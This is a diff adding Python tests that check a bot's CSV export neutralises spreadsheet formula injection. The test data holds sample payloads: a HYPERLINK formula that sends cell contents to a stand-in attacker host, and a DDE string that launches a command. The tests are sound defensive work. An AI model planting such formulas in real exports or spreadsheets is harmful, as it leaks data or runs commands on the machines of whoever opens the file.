@@ -5,13 +5,18 @@ Every test drives the real core (or the CLI) and checks what was stored, not onl
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 from sqlalchemy import select
 
 from bot.app import App
+from bot.cli import main
+from bot.teams.render import table_csv
 from handlers.context import Request
-from handlers.reply import Reply
+from handlers.format import spreadsheet_cell
+from handlers.reply import Reply, Table
 from storage.models import Action, ActionUpdate, AuditEvent, Binding, Series
 
 AT = datetime(2024, 1, 19, 10, 5, tzinfo=UTC)
@@ -142,3 +147,46 @@ def test_numbers_too_large_for_the_database_are_no_such_action(app: App) -> None
     assert _state(app) == before
     said = core.handle(Request("shell", "C-BOARD", "MT", "done 2147483647", AT)).plain
     assert "There is no action 2147483647 in" in said
+
+
+# --- 3. spreadsheet formula injection ----------------------------------------------------------------------
+
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+)
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(app: App, database_url: str) -> None:
+    core = app.core()
+    core.handle(Request("shell", "C-BOARD", "MT", "bind board", AT))
+    for i, hostile in enumerate(HOSTILE_CELLS, start=1):
+        core.handle(Request("shell", "C-BOARD", "MT", f"Action: HN to phone school {i} by Friday", AT))
+        core.handle(
+            Request("shell", "C-BOARD", "HN", f"action {i} update: {hostile}", AT + timedelta(minutes=i))
+        )
+    # Stored as typed: only the export changes how a cell is written.
+    assert sorted(t for _, k, t in _updates(app) if k == "update") == sorted(HOSTILE_CELLS)
+    out, err = io.StringIO(), io.StringIO()
+    code = main(
+        ["--database", database_url, "export", "actions", "--series", "board", "--format", "csv"],
+        stdout=out,
+        stderr=err,
+    )
+    assert code == 0, err.getvalue()
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [r["latest_update"] for r in rows] == ["'" + h for h in HOSTILE_CELLS]
+    assert all(not r["latest_update"].startswith(("=", "+", "-", "@")) for r in rows)
+    assert rows[0]["number"] == "1" and rows[0]["due"][:2] == "20"  # ordinary cells unchanged
+
+
+def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
+    for first in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_cell(f"{first}1+1") == f"'{first}1+1"
+    for plain in ("HN to write", "2024-03-15", "1 = 1", "", "'quoted"):
+        assert spreadsheet_cell(plain) == plain
+    assert spreadsheet_cell(3) == 3 and spreadsheet_cell(True) is True
+    csv_bytes = table_csv(Table(("Text",), (("=1+1",), ("ok",))))
+    assert list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")))) == [["Text"], ["'=1+1"], ["ok"]]
